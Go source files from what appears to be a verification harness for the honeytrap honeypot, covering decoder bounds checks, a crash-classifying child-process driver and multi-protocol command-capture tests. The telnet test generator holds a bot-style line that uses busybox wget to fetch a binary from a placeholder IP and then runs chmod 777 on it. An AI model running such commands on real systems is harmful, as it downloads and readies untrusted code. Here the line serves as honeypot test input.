func (prop) Child(b core.Batch, o *core.Obs) {
	var p params
	b.P(&p)
	o.Begin(0)
	switch p.Mode {
	case "ctor":
		childCtor(b, p, o)
	case "file":
		childFile(b, p, o)
	case "svc":
		childSvc(b, p, o)
	}
	o.End(0)
}

func (prop) Judge(b core.Batch, recs []core.Rec, exits []core.Exit) []core.Result {
	var out []core.Result
	for _, r := range recs {
		switch r.T {
		case "starterr":
			out = append(out, core.Result{K: r.K, Verdict: core.Inconclusive, What: "did not start: " + r.S})
		case "ctor":
			var ob ctorObs
			if r.XInto(&ob) != nil {
				continue
			}
			for i := 0; i < 3 && i < ob.Cases; i++ { // several keys so that distinct counts cases, conservatively per batch
				_ = i
			}
			res := core.Result{K: r.K, Verdict: core.Held, Key: b.Name, Witness: ob.Cases,
				Sample: map[string]interface{}{"mode": b.Name, "cases": ob.Cases, "exhaustive_part": ob.Exhaustive, "example_input_hex": ob.Sample}}
			out = append(out, res)
			var cls []string
			for c := range ob.Classes {
				cls = append(cls, c)
			}
			sort.Strings(cls)
			for _, c := range cls {
				ex := ""
				for _, m := range ob.Mismatches {
					if strings.HasPrefix(m, c+":") {
						ex = m
						break
					}
				}
				out = append(out, core.Result{K: r.K, Verdict: core.Violated, Sig: "C05|" + strings.Split(b.Name, "/")[0] + "|" + c, What: fmt.Sprintf("%s (%d cases)", ex, ob.Classes[c]), Witness: ob.Mismatches})
			}
		case "svc":
			var ob svcObs
			if r.XInto(&ob) != nil {
				continue
			}
			res := core.Result{K: r.K, Verdict: core.Held, Witness: ob}
			if ob.Events > 0 {
				res.Key = b.Name
				res.Sample = map[string]interface{}{"mode": b.Name, "scenarios": ob.Scen, "events_checked": ob.Events, "distinct_event_shapes": ob.Distinct, "by_category": ob.Cats, "example_shape": ob.Sample}
			}
			out = append(out, res)
			var cls []string
			for c := range ob.Classes {
				cls = append(cls, c)
			}
			sort.Strings(cls)
			for _, c := range cls {
				ex := ""
				for _, pr := range ob.Problems {
					if pr.Class == c {
						ex = pr.Problem
						break
					}
				}
				out = append(out, core.Result{K: r.K, Verdict: core.Violated, Sig: "C05|svc|" + c, What: fmt.Sprintf("%s (%d events)", ex, ob.Classes[c]), Witness: ob.Problems})
			}
		}
	}
	for _, e := range exits {
		if e.Died() {
			out = append(out, core.Result{K: e.LastBegun, Verdict: core.Inconclusive, What: fmt.Sprintf("child died (%s %s) in %s - crash classes belong to C01", e.Class, e.Frame, b.Name)})
		}
	}
	return out
}

func (prop) Summarize(all []core.Result, nrec int) map[string]interface{} {
	cases, events, shapes := 0, 0, 0
	for _, r := range all {
		switch w := r.Witness.(type) {
		case int:
			cases += w
		case svcObs:
			events += w.Events
			shapes += w.Distinct
		}
	}
	return map[string]interface{}{"constructor_cases": cases, "service_events_checked": events, "distinct_event_shapes": shapes}
}
