// Package c17: the binary decoder stays in bounds; IPP requests decode to
// what was encoded. Decoder operations run under Go's bounds checks on
// buffers whose capacity equals their length (carved from a poisoned arena)
// and are compared with a cursor model; IPP requests go through the real
// dispatcher and the reply/event are compared with an independent encoder.
package c17

import (
	"encoding/hex"
	"fmt"

	"github.com/honeytrap/honeytrap/services/decoder"
)

type op struct {
	Kind string // Byte Int16 Int32 Uint32 PeekByte PeekInt16 Copy Seek Data
	N    int
}

func (o op) String() string {
	if o.Kind == "Copy" || o.Kind == "Seek" {
		return fmt.Sprintf("%s(%d)", o.Kind, o.N)
	}
	return o.Kind
}

func allOps() []op {
	ops := []op{{"Byte", 0}, {"Int16", 0}, {"Int32", 0}, {"Uint32", 0}, {"PeekByte", 0}, {"PeekInt16", 0}, {"Data", 0}}
	for n := -3; n <= 8; n++ {
		ops = append(ops, op{"Copy", n})
	}
	for n := -3; n <= 8; n++ {
		ops = append(ops, op{"Seek", n})
	}
	return ops
}

// model is the cursor model written from the statement.
type model struct {
	data []byte
	off  int
	err  bool
}

// fits is written without forming off+n: the sum can exceed the integer range for the sizes of the quantifier
func (m *model) fits(n int) bool { return n >= 0 && n <= len(m.data)-m.off }

// step returns the expected return value rendered as a string.
func (m *model) step(o op) string {
	be := func(n int) uint64 {
		var v uint64
		for i := 0; i < n; i++ {
			v = v<<8 | uint64(m.data[m.off+i])
		}
		return v
	}
	switch o.Kind {
	case "Byte":
		if !m.fits(1) {
			m.err = true
			return "0"
		}
		v := be(1)
		m.off++
		return fmt.Sprint(v)
	case "PeekByte":
		if !m.fits(1) {
			m.err = true
			return "0"
		}
		return fmt.Sprint(be(1))
	case "Int16":
		if !m.fits(2) {
			m.err = true
			return "0"
		}
		v := int16(be(2))
		m.off += 2
		return fmt.Sprint(v)
	case "PeekInt16":
		if !m.fits(2) {
			m.err = true
			return "0"
		}
		return fmt.Sprint(int16(be(2)))
	case "Int32":
		if !m.fits(4) {
			m.err = true
			return "0"
		}
		v := int32(be(4))
		m.off += 4
		return fmt.Sprint(v)
	case "Uint32":
		if !m.fits(4) {
			m.err = true
			return "0"
		}
		v := uint32(be(4))
		m.off += 4
		return fmt.Sprint(v)
	case "Copy":
		if !m.fits(o.N) { // negative sizes count as "does not fit"
			m.err = true
			return "nil"
		}
		v := hex.EncodeToString(m.data[m.off : m.off+o.N])
		m.off += o.N
		return "x" + v
	case "Seek":
		// forward: must fit; backward: the rewind the IPP code relies on, allowed inside the buffer
		if o.N >= 0 && !m.fits(o.N) || o.N < 0 && o.N < -m.off {
			m.err = true
			return ""
		}
		m.off += o.N
		return ""
	case "Data":
		if !m.fits(2) {
			m.err = true
			return "s" // zero length read of nothing: empty string
		}
		l := int(int16(be(2)))
		m.off += 2
		if !m.fits(l) {
			m.err = true
			return "s"
		}
		v := hex.EncodeToString(m.data[m.off : m.off+l])
		m.off += l
		return "s" + v
	}
	return "?"
}

func apply(d *decoder.Decode, o op) string {
	switch o.Kind {
	case "Byte":
		return fmt.Sprint(d.Byte())
	case "PeekByte":
		return fmt.Sprint(d.PeekByte())
	case "Int16":
		return fmt.Sprint(d.Int16())
	case "PeekInt16":
		return fmt.Sprint(d.PeekInt16())
	case "Int32":
		return fmt.Sprint(d.Int32())
	case "Uint32":
		return fmt.Sprint(d.Uint32())
	case "Copy":
		b := d.Copy(o.N)
		if b == nil {
			return "nil"
		}
		return "x" + hex.EncodeToString(b)
	case "Seek":
		d.Seek(o.N)
		return ""
	case "Data":
		return "s" + hex.EncodeToString([]byte(d.Data()))
	}
	return "?"
}

type mismatch struct {
	Buf   string   `json:"buf_hex"`
	Seq   []string `json:"seq"`
	At    int      `json:"at"`
	Rule  string   `json:"rule"`
	Class string   `json:"class"`
	Got   string   `json:"got"`
	Want  string   `json:"want"`
}

// guarded returns a copy of content whose cap equals its len, inside a poisoned arena.
func guarded(content []byte) []byte {
	arena := make([]byte, len(content)+64)
	for i := range arena {
		arena[i] = 0xAA
	}
	copy(arena[32:], content)
	return arena[32 : 32+len(content) : 32+len(content)]
}

func opClass(o op, m *model) string {
	switch o.Kind {
	case "Copy", "Seek":
		switch {
		case o.N < 0:
			return o.Kind + "(negative)"
		case !m.fits(o.N):
			return o.Kind + "(beyond-end)"
		default:
			return o.Kind + "(fits)"
		}
	case "Data":
		if m.fits(2) {
			l := int(int16(uint16(m.data[m.off])<<8 | uint16(m.data[m.off+1])))
			if l < 0 {
				return "Data(length>=0x8000)"
			}
			if !m.fits(2 + l) {
				return "Data(length-beyond-end)"
			}
			return "Data(fits)"
		}
		return "Data(no-length)"
	}
	return o.Kind
}

// runSeq executes one sequence against the real decoder and the model.
// progressed reports whether at least one operation consumed or returned data.
func runSeq(content []byte, seq []op) (mm *mismatch, progressed bool) {
	buf := guarded(content)
	d := decoder.NewDecoder(buf)
	m := &model{data: content}
	names := func() []string {
		var o []string
		for _, s := range seq {
			o = append(o, s.String())
		}
		return o
	}
	for i, o := range seq {
		cls := opClass(o, m)
		before := m.off
		want := m.step(o)
		var got string
		var pan interface{}
		func() {
			defer func() { pan = recover() }()
			got = apply(d, o)
		}()
		if pan != nil {
			return &mismatch{Buf: hex.EncodeToString(content), Seq: names(), At: i, Rule: "panic", Class: cls, Got: fmt.Sprint(pan), Want: want}, progressed
		}
		if m.off != before || (want != "0" && want != "nil" && want != "" && want != "s") {
			progressed = true
		}
		if got != want {
			return &mismatch{Buf: hex.EncodeToString(content), Seq: names(), At: i, Rule: "value", Class: cls, Got: got, Want: want}, progressed
		}
		if a := d.Available(); a != len(content)-m.off {
			return &mismatch{Buf: hex.EncodeToString(content), Seq: names(), At: i, Rule: "cursor", Class: cls, Got: fmt.Sprint(a), Want: fmt.Sprint(len(content) - m.off)}, progressed
		}
		if (d.LastError() != nil) != m.err {
			return &mismatch{Buf: hex.EncodeToString(content), Seq: names(), At: i, Rule: "error-flag", Class: cls, Got: fmt.Sprint(d.LastError()), Want: fmt.Sprint(m.err)}, progressed
		}
	}
	// the arena around the buffer must be untouched (the decoder never writes, but check anyway)
	return nil, progressed
}
