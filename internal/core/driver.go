package core

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"sort"
	"strings"
	"sync"
	"syscall"
	"time"
)

type Verdict string

const (
	Held         Verdict = "held"
	Violated     Verdict = "violated"
	Inconclusive Verdict = "inconclusive"
)

// Batch is the unit a child process executes: N scenarios numbered 0..N-1,
// regenerated inside the child from (Params, seed, index).
type Batch struct {
	Prop    string          `json:"prop"`
	Idx     int             `json:"idx"`
	Name    string          `json:"name"`
	Tier    string          `json:"tier"`
	Seed    int64           `json:"seed"`
	N       int             `json:"n"`
	From    int             `json:"from"`
	To      int             `json:"to"` // exclusive; 0 = N
	Params  json.RawMessage `json:"params,omitempty"`
	Race    bool            `json:"race,omitempty"`
	Strace  string          `json:"strace,omitempty"` // extra strace arguments; child runs under strace when set
	Timeout int             `json:"timeout_s,omitempty"`
	Verbose bool            `json:"verbose,omitempty"`
	NoRestart bool          `json:"no_restart,omitempty"`
}

func (b Batch) P(v interface{}) { json.Unmarshal(b.Params, v) }

// Exit describes how a child ended.
type Exit struct {
	Code      int
	Signal    string
	TimedOut  bool
	Class     string // "", panic, fatal:stack-overflow, fatal:concurrent-map, fatal:oom, fatal:other, killed, memguard
	Frame     string // innermost honeytrap frame of the dying goroutine
	Stderr    string // tail
	LastBegun int    // scenario that had begun but not ended, -1 if none
	Races     []RaceReport
	WorkDir   string
}

func (e Exit) Died() bool { return e.Code != 0 || e.Signal != "" || e.TimedOut }

// Result is the oracle's verdict on one scenario (or on one rule of it).
type Result struct {
	K       int         `json:"k"`
	Batch   int         `json:"batch"`
	Verdict Verdict     `json:"verdict"`
	Sig     string      `json:"sig,omitempty"`  // signature of a violation
	What    string      `json:"what,omitempty"` // human-readable
	Key     string      `json:"key,omitempty"`  // distinct-case key; empty = trivial
	Sample  interface{} `json:"sample,omitempty"`
	Witness interface{} `json:"witness,omitempty"`
}

// Prop is implemented once per property.
type Prop interface {
	ID() string
	Level() string
	Rule() string
	Assumptions() []string
	Plan(tier string, seed int64) []Batch
	Child(b Batch, o *Obs)
	Judge(b Batch, recs []Rec, exits []Exit) []Result
}

// Summarizer lets a property add measured keys to the evidence coverage.
type Summarizer interface {
	Summarize(all []Result, recsSeen int) map[string]interface{}
}

var registry = map[string]Prop{}

func Register(p Prop) { registry[p.ID()] = p }
func Get(id string) Prop { return registry[id] }
func IDs() []string {
	var ids []string
	for k := range registry {
		ids = append(ids, k)
	}
	sort.Strings(ids)
	return ids
}

// VerifDir is where evidence, known findings and builds live.
func VerifDir() string {
	if d := os.Getenv("VERIF_DIR"); d != "" {
		return d
	}
	return "/verif"
}

// BuildDir is where ./check put the executables (.build; a development run against a scratch copy of the
// repository uses another directory, see ./check).
func BuildDir() string {
	if d := os.Getenv("VERIF_BUILD"); d != "" {
		return d
	}
	return filepath.Join(VerifDir(), ".build")
}

// EvidenceDir is where evidence and replay files go.
func EvidenceDir() string {
	if d := os.Getenv("VERIF_EVIDENCE"); d != "" {
		return d
	}
	return filepath.Join(VerifDir(), "evidence")
}

type RaceReport struct {
	Pair  string `json:"pair"`
	Map   bool   `json:"map_class"`
	Block string `json:"block,omitempty"`
}

var htFrame = regexp.MustCompile(`github\.com/honeytrap/honeytrap/[^\s(]+(\([^)]*\))?[^\s(]*`)

func innermostHT(block string) string {
	for _, ln := range strings.Split(block, "\n") {
		ln = strings.TrimSpace(ln)
		if strings.HasPrefix(ln, "github.com/honeytrap/honeytrap/") {
			if i := strings.LastIndex(ln, "("); i > 0 {
				ln = ln[:i]
			}
			return strings.TrimPrefix(ln, "github.com/honeytrap/honeytrap/")
		}
	}
	return ""
}

// firstNonRuntime returns the innermost non-runtime function of the first
// user goroutine in a fatal dump.
func firstNonRuntime(s string) string {
	g := strings.Index(s, "\ngoroutine ")
	if g < 0 {
		return ""
	}
	blk := s[g+1:]
	if e := strings.Index(blk, "\n\n"); e > 0 {
		blk = blk[:e]
	}
	for _, ln := range strings.Split(blk, "\n")[1:] {
		if strings.HasPrefix(ln, "\t") || strings.HasPrefix(ln, "runtime.") || strings.HasPrefix(ln, "created by") {
			continue
		}
		if i := strings.LastIndex(ln, "("); i > 0 {
			ln = ln[:i]
		}
		return strings.TrimPrefix(ln, "github.com/")
	}
	return ""
}

// ClassifyStderr extracts the failure class and innermost honeytrap frame.
func ClassifyStderr(s string) (class, frame string) {
	idx := -1
	switch {
	case strings.Contains(s, "fatal error: stack overflow") || strings.Contains(s, "goroutine stack exceeds"):
		class = "fatal:stack-overflow"
		idx = strings.Index(s, "goroutine stack exceeds")
		if idx < 0 {
			idx = strings.Index(s, "fatal error: stack overflow")
		}
	case strings.Contains(s, "fatal error: concurrent map"):
		class = "fatal:concurrent-map"
		idx = strings.Index(s, "fatal error: concurrent map")
	case strings.Contains(s, "runtime: out of memory") || strings.Contains(s, "fatal error: out of memory") || strings.Contains(s, "cannot allocate memory"):
		class = "fatal:oom"
		idx = strings.Index(s, "out of memory")
	case strings.Contains(s, "fatal error:"):
		class = "fatal:other"
		idx = strings.Index(s, "fatal error:")
	case strings.Contains(s, "\npanic: ") || strings.HasPrefix(s, "panic: "):
		class = "panic-unrecovered"
		idx = strings.Index(s, "panic: ")
	}
	if idx >= 0 {
		rest := s[idx:]
		// first goroutine block after the banner
		if g := strings.Index(rest, "\ngoroutine "); g >= 0 {
			blk := rest[g+1:]
			if e := strings.Index(blk, "\n\n"); e > 0 {
				blk = blk[:e]
			}
			frame = innermostHT(blk)
		}
		if frame == "" {
			frame = innermostHT(rest)
		}
		if class == "fatal:oom" {
			// name the allocating call site too (it may be in a third-party decoder)
			if site := firstNonRuntime(rest); site != "" && !strings.Contains(site, "honeytrap/honeytrap") {
				frame = site + "<" + frame
			}
		}
	}
	return
}

func parseRaces(dir string) []RaceReport {
	files, _ := filepath.Glob(filepath.Join(dir, "race.log.*"))
	seen := map[string]bool{}
	var out []RaceReport
	for _, f := range files {
		b, err := os.ReadFile(f)
		if err != nil {
			continue
		}
		for _, blk := range strings.Split(string(b), "==================") {
			if !strings.Contains(blk, "WARNING: DATA RACE") {
				continue
			}
			parts := regexp.MustCompile(`(?m)^(Write|Read|Previous write|Previous read) .*$`).Split(blk, -1)
			var fr []string
			mapc := false
			for _, p := range parts[1:] {
				if e := strings.Index(p, "\n\n"); e > 0 {
					p = p[:e]
				}
				if strings.Contains(p, "runtime.mapassign") || strings.Contains(p, "runtime.mapaccess") || strings.Contains(p, "runtime.mapdelete") || strings.Contains(p, "runtime.mapiter") {
					mapc = true
				}
				fr = append(fr, innermostHT(p))
			}
			sort.Strings(fr)
			pair := strings.Join(fr, " <-> ")
			if seen[pair] {
				continue
			}
			seen[pair] = true
			if len(blk) > 3000 {
				blk = blk[:3000]
			}
			out = append(out, RaceReport{Pair: pair, Map: mapc, Block: blk})
		}
	}
	return out
}

func tail(path string, n int) string {
	b, err := os.ReadFile(path)
	if err != nil {
		return ""
	}
	if len(b) > n {
		b = b[len(b)-n:]
	}
	return string(b)
}

// head+tail of a big stderr: the banner is at the start of the dump.
func headTail(path string, n int) string {
	b, err := os.ReadFile(path)
	if err != nil {
		return ""
	}
	if len(b) <= 2*n {
		return string(b)
	}
	return string(b[:n]) + "\n...[cut]...\n" + string(b[len(b)-n:])
}

// findBanner locates the fatal banner in a possibly huge stderr file.
func findBanner(path string) string {
	b, err := os.ReadFile(path)
	if err != nil {
		return ""
	}
	for _, pat := range []string{"goroutine stack exceeds", "fatal error:", "\npanic: "} {
		if i := bytes.Index(b, []byte(pat)); i >= 0 {
			s := i - 200
			if s < 0 {
				s = 0
			}
			e := i + 6000
			if e > len(b) {
				e = len(b)
			}
			return string(b[s:e])
		}
	}
	if bytes.HasPrefix(b, []byte("panic: ")) {
		if len(b) > 6000 {
			b = b[:6000]
		}
		return string(b)
	}
	return ""
}

// RunChild executes one batch in a child process and returns its records and
// exit description. The child is this same executable.
func RunChild(b Batch, work string) ([]Rec, Exit) {
	os.MkdirAll(work, 0755)
	obsPath := filepath.Join(work, "obs.jsonl")
	errPath := filepath.Join(work, "stderr.txt")
	outPath := filepath.Join(work, "stdout.txt")
	bj, _ := json.Marshal(b)
	os.WriteFile(filepath.Join(work, "batch.json"), bj, 0644)

	exe := os.Args[0]
	if b.Race {
		exe = filepath.Join(BuildDir(), "htlab-race")
	}
	args := []string{exe, "child", "--batch", filepath.Join(work, "batch.json"), "--obs", obsPath, "--work", work}
	if b.Strace != "" {
		st := []string{"strace", "-f", "-o", filepath.Join(work, "strace.log")}
		st = append(st, strings.Fields(b.Strace)...)
		args = append(st, args...)
	}
	cmd := exec.Command(args[0], args[1:]...)
	ef, _ := os.Create(errPath)
	of, _ := os.Create(outPath)
	cmd.Stderr = ef
	cmd.Stdout = of
	cmd.Env = append(os.Environ(),
		"GORACE=halt_on_error=0 exitcode=0 log_path="+filepath.Join(work, "race.log"),
		"GOTRACEBACK=all",
	)
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	to := time.Duration(b.Timeout) * time.Second
	if to == 0 {
		to = 10 * time.Minute
	}
	var ex Exit
	ex.LastBegun = -1
	ex.WorkDir = work
	if err := cmd.Start(); err != nil {
		ex.Code = 127
		ex.Stderr = err.Error()
		return nil, ex
	}
	done := make(chan error, 1)
	go func() { done <- cmd.Wait() }()
	var werr error
	select {
	case werr = <-done:
	case <-time.After(to):
		ex.TimedOut = true
		syscall.Kill(-cmd.Process.Pid, syscall.SIGQUIT)
		select {
		case werr = <-done:
		case <-time.After(20 * time.Second):
			syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL)
			werr = <-done
		}
	}
	ef.Close()
	of.Close()
	syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL) // stragglers of the group
	if werr != nil {
		if ee, ok := werr.(*exec.ExitError); ok {
			ws := ee.Sys().(syscall.WaitStatus)
			if ws.Signaled() {
				ex.Signal = ws.Signal().String()
			} else {
				ex.Code = ws.ExitStatus()
			}
		} else {
			ex.Code = 126
		}
	}
	recs, _ := ReadObs(obsPath)
	begun := map[int]bool{}
	for _, r := range recs {
		switch r.T {
		case "begin":
			begun[r.K] = true
		case "end":
			delete(begun, r.K)
		}
	}
	for k := range begun {
		if k > ex.LastBegun {
			ex.LastBegun = k
		}
	}
	if ex.Died() {
		banner := findBanner(errPath)
		ex.Class, ex.Frame = ClassifyStderr(banner)
		if ex.Class == "" && ex.Code == 3 {
			ex.Class = "memguard"
		}
		if ex.Class == "" && ex.Signal == "killed" {
			ex.Class = "killed"
		}
		ex.Stderr = banner
		if ex.Stderr == "" {
			ex.Stderr = tail(errPath, 4000)
		}
	}
	ex.Races = parseRaces(work)
	return recs, ex
}

// RunBatch runs a batch to completion, restarting the child after a death at
// the scenario following the one that was running, so one defect does not
// mask the rest.
func RunBatch(b Batch, work string) ([]Rec, []Exit) {
	var all []Rec
	var exits []Exit
	from := b.From
	end := b.To
	if end == 0 {
		end = b.N
	}
	for attempt := 0; attempt < 40 && from < end; attempt++ {
		bb := b
		bb.From = from
		bb.To = end
		recs, ex := RunChild(bb, filepath.Join(work, fmt.Sprintf("a%d", attempt)))
		all = append(all, recs...)
		exits = append(exits, ex)
		if !ex.Died() || b.NoRestart {
			break
		}
		if ex.LastBegun >= from {
			from = ex.LastBegun + 1
		} else {
			// died outside any scenario (start-up or between scenarios): find the last ended one
			last := from - 1
			for _, r := range recs {
				if r.T == "end" && r.K > last {
					last = r.K
				}
			}
			if last+1 <= from && attempt > 2 {
				break // cannot make progress
			}
			from = last + 1
		}
	}
	return all, exits
}

// RunAll executes all batches of a plan with the given parallelism and
// returns the judged results.
func RunAll(p Prop, plan []Batch, par int, workRoot string) ([]Result, int, []Exit) {
	type out struct {
		res   []Result
		nrec  int
		exits []Exit
	}
	outs := make([]out, len(plan))
	sem := make(chan struct{}, par)
	var wg sync.WaitGroup
	for i := range plan {
		wg.Add(1)
		sem <- struct{}{}
		go func(i int) {
			defer wg.Done()
			defer func() { <-sem }()
			b := plan[i]
			work := filepath.Join(workRoot, fmt.Sprintf("b%03d", b.Idx))
			recs, exits := RunBatch(b, work)
			res := p.Judge(b, recs, exits)
			for j := range res {
				res[j].Batch = b.Idx
			}
			outs[i] = out{res, len(recs), exits}
			if os.Getenv("VERIF_KEEP") == "" {
				os.RemoveAll(work)
			}
		}(i)
	}
	wg.Wait()
	var all []Result
	var exits []Exit
	n := 0
	for _, o := range outs {
		all = append(all, o.res...)
		n += o.nrec
		exits = append(exits, o.exits...)
	}
	return all, n, exits
}
