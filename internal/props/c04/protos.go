// Package c04: every client command is captured exactly once, however the
// stream is segmented. Per-protocol grammars emit (command list, byte
// stream); the event recorder's per-connection list must equal the command
// list under every delivery (whole, every single cut, multi-cut, dribble;
// pipelined and lock-step), and be identical across deliveries.
package c04

import (
	"encoding/hex"
	"fmt"
	"strings"

	"verif/htlab/internal/core"
	"verif/htlab/internal/gen"
	"verif/htlab/internal/lab"
)

type proto struct {
	Name   string
	Type   string
	Net    string
	Port   int
	Extra  string
	OneReq bool // one request per connection by design
	// Gen returns the per-command chunks and the canonical expected event list.
	Gen func(r *core.Rng) (chunks [][]byte, expect []string)
	// Extract renders the captured events of one connection canonically.
	Extract func(evs []core.EvRec) []string
}

func s(r core.EvRec, k string) string { return lab.Str(r, k) }

func word(r *core.Rng) string { return r.Alnum(r.Range(1, 8)) }

var protos = []proto{
	{Name: "ftp", Type: "ftp", Net: "tcp", Port: 21, Extra: "fs_base=\"$WORK/ftproot\"\n",
		Gen: func(r *core.Rng) ([][]byte, []string) {
			var ch [][]byte
			var ex []string
			for i := r.Range(2, 7); i > 0; i-- {
				l := r.PickS([]string{"NOOP", "SYST", "USER " + word(r), "PASS " + word(r), "XYZZY " + word(r), "FEAT", "PWD", "TYPE I", "HELP", "noop", "STAT", "MODE S"})
				ch = append(ch, []byte(l+"\r\n"))
				ex = append(ex, "cmd:"+l)
			}
			return ch, ex
		},
		Extract: func(evs []core.EvRec) []string {
			var o []string
			for _, e := range evs {
				if s(e, "category") == "ftp" {
					o = append(o, "cmd:"+s(e, "ftp.command"))
				}
			}
			return o
		}},
	{Name: "smtp", Type: "smtp", Net: "tcp", Port: 25,
		Gen: func(r *core.Rng) ([][]byte, []string) {
			var ch [][]byte
			var ex []string
			add := func(l string) { ch = append(ch, []byte(l+"\r\n")); ex = append(ex, "line:"+l) }
			add(r.PickS([]string{"HELO ", "EHLO "}) + word(r) + ".test")
			for i := r.Range(1, 3); i > 0; i-- {
				switch r.Intn(4) {
				case 0:
					add(r.PickS([]string{"NOOP", "RSET", "HELP"}))
				case 1, 2:
					add("MAIL FROM:<" + word(r) + "@a.test>")
					add("RCPT TO:<" + word(r) + "@b.test>")
					subj := "subj-" + word(r)
					add("DATA")
					body := "Subject: " + subj + "\r\nFrom: a@a.test\r\n"
					if r.Bool() {
						body += "X-Long: part one\r\n\tfolded part two\r\n"
					}
					body += "\r\nline one " + word(r) + "\r\n..stuffed dot\r\nlast\r\n.\r\n"
					ch = append(ch, []byte(body))
					ex = append(ex, "email:"+subj)
				case 3:
					add("MAIL FROM:<" + word(r) + "@a.test>")
					subj := "bdat-" + word(r)
					b1 := "Subject: " + subj + "\r\n\r\nchunk one "
					b2 := "chunk two " + word(r) + "\r\n"
					l1 := fmt.Sprintf("BDAT %d", len(b1))
					ch = append(ch, []byte(l1+"\r\n"+b1))
					ex = append(ex, "line:"+l1)
					l2 := fmt.Sprintf("BDAT %d LAST", len(b2))
					ch = append(ch, []byte(l2+"\r\n"+b2))
					ex = append(ex, "line:"+l2, "email:"+subj)
				}
			}
			add("QUIT")
			return ch, ex
		},
		Extract: func(evs []core.EvRec) []string {
			var o []string
			for _, e := range evs {
				if s(e, "category") != "smtp" {
					continue
				}
				if s(e, "type") == "email" {
					o = append(o, "email:"+s(e, "smtp.Subject"))
				} else {
					o = append(o, "line:"+s(e, "smtp.line"))
				}
			}
			return o
		}},
	{Name: "redis", Type: "redis", Net: "tcp", Port: 6379,
		Gen: func(r *core.Rng) ([][]byte, []string) {
			var ch [][]byte
			var ex []string
			for i := r.Range(2, 7); i > 0; i-- {
				if r.Chance(1, 6) {
					ch = append(ch, []byte("\r\n")) // inline empty line: ignored by design
					continue
				}
				args := []string{r.PickS([]string{"PING", "INFO", "SET", "GET", "CONFIG", "KEYS", "foo" + word(r)})}
				for j := r.Intn(4); j > 0; j-- {
					a := word(r)
					if r.Chance(1, 5) {
						a = "" // an empty bulk string ($0) is a valid argument, in any position
					}
					args = append(args, a)
				}
				b := fmt.Sprintf("*%d\r\n", len(args))
				for _, a := range args {
					b += fmt.Sprintf("$%d\r\n%s\r\n", len(a), a)
				}
				ch = append(ch, []byte(b))
				ex = append(ex, "cmd:"+args[0])
			}
			return ch, ex
		},
		Extract: func(evs []core.EvRec) []string {
			var o []string
			for _, e := range evs {
				if s(e, "category") == "redis" {
					o = append(o, "cmd:"+s(e, "redis.command"))
				}
			}
			return o
		}},
	{Name: "memcached", Type: "memcached", Net: "tcp", Port: 11211, Gen: genMemcached(false), Extract: extractMemcached},
	{Name: "telnet", Type: "telnet", Net: "tcp", Port: 23,
		Gen: func(r *core.Rng) ([][]byte, []string) {
			eol := func() string { return r.PickS([]string{"\r\n", "\n"}) }
			u, p := word(r), word(r)
			ch := [][]byte{[]byte(u + eol()), []byte(p + eol())}
			ex := []string{"auth:" + u + "/" + p}
			n := r.Range(1, 5)
			if r.Chance(1, 2) {
				n = r.Range(25, 60) // a bot's whole script in one go: longer than any reader's buffer
			}
			for i := n; i > 0; i-- {
				// "id\xff", "\xffuname": a byte that is no key at all (0xff is the telnet IAC and no UTF-8) next to
				// a command; the line editor skips it, the command is reported without it
				c := r.PickS([]string{"ls", "id\xff", "\xffuname", "cat " + word(r), "uname -a", "wget " + word(r), word(r), "/bin/busybox wget http://198.51.100.7/bins/" + word(r) + "; chmod 777 " + word(r),
					// keys of more than one byte (the line editor reads key by key): a cut can fall inside one
					"cat caf\u00e9-" + word(r) + ".txt", "echo \u20acuro " + word(r), "ls ~/\u0414\u043e\u043a\u0443\u043c\u0435\u043d\u0442\u044b/" + word(r), word(r) + " \U0001F600"})
				ch = append(ch, []byte(c+eol()))
				ex = append(ex, "cmd:"+strings.ReplaceAll(c, "\xff", ""))
			}
			return ch, ex
		},
		Extract: func(evs []core.EvRec) []string {
			var o []string
			for _, e := range evs {
				if s(e, "category") != "telnet" {
					continue
				}
				switch s(e, "type") {
				case "password-authentication":
					o = append(o, "auth:"+s(e, "telnet.username")+"/"+s(e, "telnet.password"))
				case "session":
					o = append(o, "cmd:"+s(e, "telnet.command"))
				}
			}
			return o
		}},
	{Name: "http", Type: "http", Net: "tcp", Port: 80, Gen: genHTTP([]string{"/", "/a", "/b?c=d", "/idx.html"}, 1, 3, true), Extract: extractHTTP("http")},
	{Name: "elasticsearch", Type: "elasticsearch", Net: "tcp", Port: 9200, OneReq: true, Gen: genHTTP([]string{"/", "/_search", "/_cat/indices"}, 1, 1, true), Extract: extractHTTP("elasticsearch")},
	{Name: "eos", Type: "eos", Net: "tcp", Port: 8888, OneReq: true, Gen: genHTTP([]string{"/v1/wallet/list_keys", "/v1/chain/get_info"}, 1, 1, false), Extract: extractHTTP("eos")},
	{Name: "docker", Type: "docker", Net: "tcp", Port: 2375, OneReq: true, Gen: genHTTP([]string{"/version", "/info", "/containers/json", "/images/json"}, 1, 1, true), Extract: extractHTTP("docker")},
	{Name: "ethereum", Type: "ethereum", Net: "tcp", Port: 8545, OneReq: true,
		Gen: func(r *core.Rng) ([][]byte, []string) {
			m := r.PickS([]string{"eth_accounts", "net_version", "eth_blockNumber", "web3_clientVersion", "rpc_modules"})
			body := fmt.Sprintf(`{"jsonrpc":"2.0","method":"%s","params":[],"id":%d}`, m, r.Intn(1000))
			return [][]byte{gen.HTTPRequest("POST", "/", [][2]string{{"Host", "e.test"}, {"Content-Type", "application/json"}}, []byte(body), r.Chance(1, 3))}, []string{"rpc:" + m}
		},
		Extract: func(evs []core.EvRec) []string {
			var o []string
			for _, e := range evs {
				if s(e, "category") == "ethereum" {
					o = append(o, "rpc:"+s(e, "type"))
				}
			}
			return o
		}},
	{Name: "cwmp", Type: "cwmp", Net: "tcp", Port: 7547, OneReq: true,
		Gen: func(r *core.Rng) ([][]byte, []string) {
			m := r.PickS([]string{"Inform", "GetParameterValues", "Reboot"})
			body := fmt.Sprintf(`<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/" xmlns:cwmp="urn:dslforum-org:cwmp-1-0"><soap:Body><cwmp:%s><X>%s</X></cwmp:%s></soap:Body></soap:Envelope>`, m, word(r), m)
			return [][]byte{gen.HTTPRequest("POST", "/acs", [][2]string{{"Host", "c.test"}, {"Content-Type", "text/xml"}}, []byte(body), false)}, []string{"cwmp:" + m}
		},
		Extract: func(evs []core.EvRec) []string {
